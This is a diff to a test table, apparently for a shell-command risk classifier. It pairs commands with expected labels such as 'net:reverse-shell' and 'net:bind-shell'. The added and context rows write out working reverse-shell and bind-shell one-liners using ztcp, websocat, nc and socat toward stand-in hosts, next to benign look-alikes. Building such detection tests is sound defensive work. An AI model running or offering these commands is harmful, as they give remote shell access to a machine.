@@ -28,6 +28,11 @@ const areas: Readonly<Record<string, readonly Row[]>> = {
   ],
   network: [
     [`nc -lvp 9000 -e /bin/bash`, ["net:bind-shell"]],
+    [`ztcp h.example 9000; bash <&$REPLY >&$REPLY`, ["net:reverse-shell", "net:send"]],
+    [`ztcp -d 5 h.example 80; print -u5 "GET /"; cat <&5`, []],
+    [`websocat ws://h.example/ cmd:bash`, ["net:reverse-shell"]],
+    [`websocat -s 9000 sh-c:bash`, ["net:bind-shell"]],
+    [`websocat ws://h.example/`, []],
     [`nc -z example.com 443`, []],
     [`socat exec:'bash -i',pty tcp4:198.51.100.7:9001`, ["net:reverse-shell"]],
     [`socat TCP-LISTEN:80,fork TCP:localhost:8080`, []],
